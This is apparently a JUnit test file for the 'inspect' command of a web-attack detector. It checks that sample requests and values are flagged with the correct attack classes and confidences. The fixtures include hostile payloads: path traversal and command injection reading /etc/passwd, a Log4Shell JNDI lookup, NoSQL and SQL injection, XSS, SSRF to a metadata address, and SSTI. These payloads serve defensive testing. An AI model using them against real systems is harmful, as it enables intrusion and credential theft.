package io.periscope.server.cli.inspect;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.periscope.mirror.sample.SampleCapture;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import picocli.CommandLine;

/** {@code periscope inspect} run as the launcher runs it, on files of requests, values and a capture. */
class InspectCommandTest {
    private static final ObjectMapper JSON = new ObjectMapper();

    @TempDir
    Path dir;

    private record Run(int status, List<JsonNode> lines, String err) {
    }

    private static Run run(String... args) throws IOException {
        StringWriter out = new StringWriter();
        StringWriter err = new StringWriter();
        CommandLine cli = new CommandLine(new InspectCommand());
        cli.setOut(new PrintWriter(out));
        cli.setErr(new PrintWriter(err));
        int status = cli.execute(args);
        List<JsonNode> lines = new ArrayList<>();
        for (String line : out.toString().split("\n")) {
            if (!line.isBlank()) {
                lines.add(JSON.readTree(line));
            }
        }
        return new Run(status, lines, err.toString());
    }

    private static List<String> classes(JsonNode line) {
        List<String> out = new ArrayList<>();
        line.get("detections").forEach(d -> out.add(d.get("attackClass").asText()));
        return out;
    }

    @Test
    void rawRequestsFilePrintsOneLinePerRequestWithEveryDetectionAndExitsZero() throws IOException {
        String requests = "GET /download?file=..%2F..%2F..%2Fetc%2Fpasswd HTTP/1.1\r\nHost: shop.example\r\n\r\n"
                + "GET /api/items?page=2 HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: ${${lower:j}ndi:ldap://x.example/a}\r\n\r\n"
                + "POST /login HTTP/1.1\r\nHost: shop.example\r\nContent-Type: application/json\r\nContent-Length: 43\r\n\r\n"
                + "{\"user\":\"admin\",\"password\":{\"$ne\":null}}  "
                + "GET /api/items?q=blue+shoes HTTP/1.1\r\nHost: shop.example\r\n\r\n";
        Path file = dir.resolve("requests.http");
        Files.writeString(file, requests, StandardCharsets.ISO_8859_1);

        Run run = run(file.toString());

        assertThat(run.status()).isZero();
        assertThat(run.lines()).hasSize(4);
        assertThat(run.lines().get(0).get("kind").asText()).isEqualTo("request");
        assertThat(classes(run.lines().get(0))).contains("PATH_TRAVERSAL");
        JsonNode traversal = run.lines().get(0).get("detections").get(0);
        assertThat(traversal.get("location").asText()).isEqualTo("QUERY_VALUE");
        assertThat(traversal.get("name").asText()).isEqualTo("file");
        assertThat(traversal.get("evidence").asText()).contains("../../../etc/passwd");
        assertThat(traversal.get("confidence").asDouble()).isGreaterThan(0.9);
        assertThat(classes(run.lines().get(1))).containsExactly("LOG4SHELL");
        assertThat(run.lines().get(1).get("detections").get(0).get("name").asText()).isEqualTo("User-Agent");
        assertThat(classes(run.lines().get(2))).contains("NOSQL_INJECTION");
        assertThat(run.lines().get(3).get("detections")).isEmpty();
    }

    @Test
    void confidencesArePrintedWithAtMostThreeDecimalsNotFloatingPointNoise() throws IOException {
        Path file = dir.resolve("payloads.txt");
        Files.writeString(file, String.join("\n", "' OR 1=1--", "<script>alert(1)</script>", "../../../etc/passwd",
                "${jndi:ldap://x.example/a}", "; cat /etc/passwd"), StandardCharsets.UTF_8);

        StringWriter out = new StringWriter();
        CommandLine cli = new CommandLine(new InspectCommand());
        cli.setOut(new PrintWriter(out));
        assertThat(cli.execute("--values", "--name", "q", file.toString())).isZero();

        List<String> printed = new ArrayList<>();
        Matcher m = Pattern.compile("\"confidence\":([^,}]+)").matcher(out.toString());
        while (m.find()) {
            printed.add(m.group(1));
        }
        assertThat(printed).isNotEmpty().allSatisfy(c -> assertThat(c).matches("(0|1)(\\.[0-9]{1,3})?"));
        assertThat(InspectLine.rounded(0.9500000000000001).toPlainString()).isEqualTo("0.95");
        assertThat(InspectLine.rounded(1.0).toPlainString()).isEqualTo("1");
    }

    @Test
    void valuesFileJudgesEachLineUnderTheGivenParameterName() throws IOException {
        Path file = dir.resolve("values.txt");
        Files.writeString(file, String.join("\n", "//evil.example/", "http://2130706433/latest/meta-data/", "; cat /etc/passwd",
                "{{7*7}}", "plain words"), StandardCharsets.UTF_8);

        Run run = run("--values", "--name", "next", file.toString());

        assertThat(run.status()).isZero();
        assertThat(run.lines()).hasSize(5);
        assertThat(classes(run.lines().get(0))).contains("OPEN_REDIRECT");
        assertThat(classes(run.lines().get(1))).contains("SSRF");
        assertThat(classes(run.lines().get(2))).contains("COMMAND_INJECTION");
        assertThat(classes(run.lines().get(3))).contains("SSTI");
        assertThat(run.lines().get(4).get("detections")).isEmpty();
        assertThat(run.lines().get(4).get("input").asInt()).isEqualTo(5);
    }

    @Test
    void captureIsReassembledInProcessAndEveryExchangePrinted() throws IOException {
        Path capture = SampleCapture.extractTo(dir);

        Run run = run("--pcap", capture.toString());

        assertThat(run.status()).isZero();
        assertThat(run.lines()).isNotEmpty();
        assertThat(run.lines()).allSatisfy(line -> {
            assertThat(line.get("kind").asText()).isEqualTo("exchange");
            assertThat(line.has("detections")).isTrue();
        });
    }

    @Test
    void valuesAndPcapTogetherAreRefusedWithAUsageError() throws IOException {
        Path file = dir.resolve("x.txt");
        Files.writeString(file, "x");

        Run run = run("--values", "--pcap", file.toString());

        assertThat(run.status()).isEqualTo(2);
        assertThat(run.err()).contains("not both");
    }
}
